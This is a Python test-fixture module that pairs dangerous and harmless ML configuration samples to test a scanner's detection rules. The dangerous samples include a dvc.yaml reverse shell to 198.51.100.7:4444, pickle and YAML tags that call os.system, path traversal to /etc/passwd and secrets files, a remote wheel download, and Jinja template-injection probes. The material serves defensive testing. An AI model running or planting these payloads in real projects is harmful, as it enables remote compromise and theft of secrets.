"""Configurations that make their reader call, import, open or run something."""

import base64
import json

from golden.pairs import Golden


def _json(rule: str, dangerous: object, harmless: object, case: str = "", name: str = "config.json") -> Golden:
    dangerous, harmless = (value if isinstance(value, str) else json.dumps(value) for value in (dangerous, harmless))
    return Golden(f"config.{rule}", name, dangerous.encode, harmless.encode, case, techniques=("F10",))


def _yaml(rule: str, dangerous: str, harmless: str, case: str = "", name: str = "config.yaml") -> Golden:
    return Golden(rule, name, dangerous.encode, harmless.encode, case, techniques=("F10",))


_PICKLED = base64.b64encode(b"\x80\x04cposix\nsystem\n(S'echo hi'\ntR.").decode()
_REDUCE = {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": ["echo hi"]}]}

GOLDENS = [
    _json("target-dangerous", {"_target_": "os.system", "_args_": ["echo hi"]}, {"_target_": "torch.optim.AdamW"}),
    _yaml(
        "config.target-dangerous",
        "model:\n  _target_: subprocess.call\n  args: [echo]\n",
        "model:\n  _target_: torch.nn.Linear\n  in_features: 2\n",
        "YAML",
    ),
    _yaml(
        "config.target-dangerous",
        "a:\n  - class_path: builtins.exec\n    init_args: {x: 1}\n",
        "a:\n  - class_path: torch.nn.ReLU\n",
        "class_path",
    ),
    _yaml(
        "config.target-dangerous",
        "_target_: hydra.utils.get_method\npath: os.system\n",
        "_target_: torch.nn.GELU\npath: os.system\n",
        "indirect",
    ),
    _yaml(
        "config.target-loads",
        "_target_: nemo.collections.asr.models.EncDecCTCModel.restore_from\nrestore_path: https://example.org/m.nemo\n",
        "_target_: torch.nn.Linear\nurl: https://example.org/m.nemo\n",
    ),
    _json("target-unknown", {"_target_": "some_project.models.Encoder"}, {"_target_": "torch.nn.Linear"}),
    _json("jsonpickle-call", _REDUCE, {"py/tuple": [1, 2]}),
    _json("jsonpickle-call", {"a": {"py/object": "subprocess.Popen", "args": 1}}, {"a": {"py/set": [1]}}, "object"),
    _json("jsonpickle-object", {"py/object": "some_project.Thing"}, {"object": "some_project.Thing"}),
    _json("remote-code", {"auto_map": {"AutoModel": "modeling_x.XModel"}}, {"architectures": ["LlamaForCausalLM"]}),
    _json(
        "remote-code", {"x": ["my_unet", "Net"]}, {"x": ["diffusers", "UNet2DModel"]}, "diffusers", "model_index.json"
    ),
    _json(
        "remote-code-elsewhere",
        {"auto_map": {"AutoTokenizer": ["other/code--tokenization_x.X", None]}},
        {"auto_map": {}},
    ),
    _json(
        "import-by-name",
        [{"idx": 0, "name": "0", "path": "", "type": "some_project.Module"}],
        [{"idx": 0, "name": "0", "path": "", "type": "sentence_transformers.models.Transformer"}],
        name="modules.json",
    ),
    _json(
        "import-by-name",
        {"auto_mapping": {"base_model_class": "X", "parent_library": "some_project"}},
        {
            "auto_mapping": {
                "base_model_class": "LlamaModel",
                "parent_library": "transformers.models.llama.modeling_llama",
            }
        },
        "peft",
        "adapter_config.json",
    ),
    _json(
        "import-by-name",
        {"peft_type": "LORA", "megatron_config": {"a": 1}, "megatron_core": "some_project.core"},
        {"peft_type": "LORA", "megatron_config": {"a": 1}, "megatron_core": "megatron.core"},
        "peft, megatron",
        "adapter_config.json",
    ),
    _json(
        "remote-code-elsewhere",
        {"model_type": "llama", "_attn_implementation": "somebody/kernel:attend"},
        {"model_type": "llama", "_attn_implementation": "kernels-community/flash-attn"},
        "kernels",
    ),
    Golden(
        "embedded.native-library",
        "genai_config.json",
        lambda: json.dumps({"model": {"session_options": {"custom_ops_library": "./operators.so"}}}).encode(),
        lambda: json.dumps({"model": {"provider_options": [{"QNN": {"backend_path": "QnnHtp.dll"}}]}}).encode(),
        "in settings",
        techniques=("F10",),
    ),
    *(
        Golden(
            rule,
            "config.pbtxt",
            lambda line=line: f'name: "model"\n{line}\n'.encode(),
            lambda: b'name: "model"\nbackend: "onnxruntime"\nmax_batch_size: 8\n',
            case,
            techniques=("F10",),
        )
        for rule, case, line in (
            ("embedded.native-library", "server", 'model_operations { op_library_filename: "/tmp/operators.so" }'),
            ("config.path-outside", "server, backend", 'backend: "../../tmp/backend"'),
            (
                "config.path-outside",
                "server, environment",
                'parameters: { key: "EXECUTION_ENV_PATH", value: { string_value: "http://198.51.100.7/e.tar.gz" } }',
            ),
        )
    ),
    Golden(
        "config.target-dangerous",
        "train.toml",
        lambda: b'[model]\n_target_ = "os.system"\ncommand = "echo hi"\n',
        lambda: b'[model]\n_target_ = "torch.nn.Linear"\nin_features = 2\n',
        "TOML",
        techniques=("F10",),
    ),
    Golden(
        "script.reverse-shell",
        "dvc.yaml",
        lambda: b"stages:\n  train:\n    cmd: bash -i >& /dev/tcp/198.51.100.7/4444 0>&1\n",
        lambda: b"stages:\n  train:\n    cmd: python train.py > /dev/null\n",
        "in settings",
        techniques=("C16",),
    ),
    Golden(
        "requirements.source",
        "pyproject.toml",
        lambda: b'[build-system]\nrequires = ["setuptools", "tool @ http://198.51.100.7/tool.whl"]\n',
        lambda: b'[project]\nurls = { Home = "http://example.org/" }\nauthors = [{ email = "a@example.org" }]\n',
        "project",
        techniques=("F10",),
    ),
    Golden(
        "config.path-outside",
        "README.md",
        lambda: b"---\nconfigs:\n- data_files:\n  - split: train\n    path: ../../../etc/passwd\n---\n# Data\n",
        lambda: b"---\nconfigs:\n- data_files:\n  - split: train\n    path: data/*.parquet\n---\n# Data\n",
        "data of a card",
        techniques=("F10",),
    ),
    _json(
        "path-outside",
        {"weight_map": {"layer": "../../other/model.bin"}},
        {"weight_map": {"layer": "model-00001-of-00002.safetensors"}},
        name="model.safetensors.index.json",
    ),
    _json("path-outside", {"vocab_file": "../../../etc/passwd"}, {"vocab_file": "vocab.txt"}, "file"),
    _yaml("config.resolver", "x: ${eval:'1+1'}\n", "x: ${model.hidden_size}\ny: ${oc.env:HOME}\n"),
    _json("repeated-name", '{"auto_map": {}, "auto_map": {}}', '{"a": 1, "a": 2}'),
    Golden(
        "jinja.internals",
        "tokenizer_config.json",
        lambda: json.dumps({"chat_template": "{{ ''.__class__ }}"}).encode(),
        lambda: json.dumps({"chat_template": "{{ messages[0]['content'] }}"}).encode(),
        "in a configuration",
        techniques=("F08",),
    ),
    Golden(
        "jinja.internals",
        "tokenizer_config.json",
        lambda: json.dumps({"chat_template": [{"name": "default", "template": "{{ ''['__cla' ~ 'ss__'] }}"}]}).encode(),
        lambda: json.dumps({"chat_template": [{"name": "default", "template": "{{ bos_token }}"}]}).encode(),
        "in a list of templates",
        techniques=("F08",),
    ),
    _yaml("yaml.python-call", "!!python/object/apply:os.system ['echo hi']\n", "!!python/tuple [1, 2]\n"),
    _yaml(
        "yaml.python-call",
        "a: !!python/name:os.system\n",
        "a: os.system\n",
        "name",
    ),
    _yaml("yaml.python-call", "a: !!python/module:subprocess ''\n", "a: subprocess\n", "module"),
    _yaml("yaml.python-object", "a: !!python/object:some_project.Thing {b: 1}\n", "a: {b: 1}\n"),
    _yaml(
        "mlflow.loader-module",
        "flavors:\n  python_function:\n    loader_module: some_project.loader\n",
        "flavors:\n  python_function:\n    loader_module: mlflow.sklearn\n",
        name="MLmodel",
    ),
    _yaml("config.target-dangerous", "m: {_target_: eval}\n", "m: {_target_: torch.compile}\n", "without a module"),
    _yaml(
        "config.target-dangerous",
        "handlers:\n  x:\n    (): os.system\n    command: echo hi\n",
        "handlers:\n  x:\n    class: logging.handlers.RotatingFileHandler\n    (): colorlog.ColoredFormatter\n",
        "logging",
    ),
    _yaml(
        "config.resolver", "x: ['${get_method:os.system}']\n", "x: ['${get_class:torch.nn.ReLU}']\n", "named function"
    ),
    _yaml(
        "config.path-outside",
        "tokenizer: {model: /proc/self/environ}\n",
        "tokenizer: {model: /mnt/models/x}\n",
        "private",
    ),
    _yaml("config.path-outside", "a: !include ../../secrets.yaml\n", "a: !include other.yaml\n", "included"),
    _yaml(
        "config.path-outside",
        "hydra:\n  searchpath: ['file:///tmp/x']\n",
        "hydra:\n  searchpath: [pkg://x]\n",
        "search path",
    ),
    _yaml(
        "config.path-outside",
        "flavors:\n  sklearn: {pickled_model: ../../x.pkl}\n",
        "flavors:\n  sklearn: {pickled_model: model.pkl, code: null}\n"
        "  langchain: {model_code_path: /Workspace/agent.py}\n",
        "MLflow",
        "MLmodel",
    ),
    _json(
        "path-outside",
        [{"idx": 0, "name": "0", "path": "../../x", "type": "sentence_transformers.models.Transformer"}],
        [{"idx": 0, "name": "0", "path": "0_x", "type": "custom_st.Transformer"}],
        "module",
        "modules.json",
    ),
    _json("code-in-text", {"fn": "lambda x: __import__('os').system('echo')"}, {"fn": "lambda x: x"}),
    _json(
        "import-by-name", {"unet": ["subprocess", "Popen"]}, {"unet": ["unet_x", "X"]}, "diffusers", "model_index.json"
    ),
    _json("remote-code-elsewhere", {"custom_generate": "other/code"}, {"custom_generate": ""}, "generation"),
    _yaml("yaml.python-call", "a: !apply:os.system ['echo hi']\n", "a: !apply:torch.manual_seed [1]\n", "HyperPyYAML"),
    _yaml("yaml.evaluating-tag", "a: !eval 1 + 1\n", "a: !ENV HOME\n"),
    _yaml("yaml.foreign-object", "!!javax.script.ScriptEngineManager []\n", "!!map {a: 1}\n"),
    _yaml(
        "pickle.call.process",
        f"a: !!binary {_PICKLED}\n",
        "a: !!binary AAAAAAAA8D8=\nb: !!python/name:pymdownx.superfences.fence_code_format\n",
        "in YAML",
    ),
    _yaml(
        "mlflow.loader-module",
        "flavors:\n  pytorch: {pickle_module_name: os}\n",
        "flavors:\n  pytorch: {pickle_module_name: mlflow.pytorch.pickle_module}\n",
        "unpickler",
        "MLmodel",
    ),
]
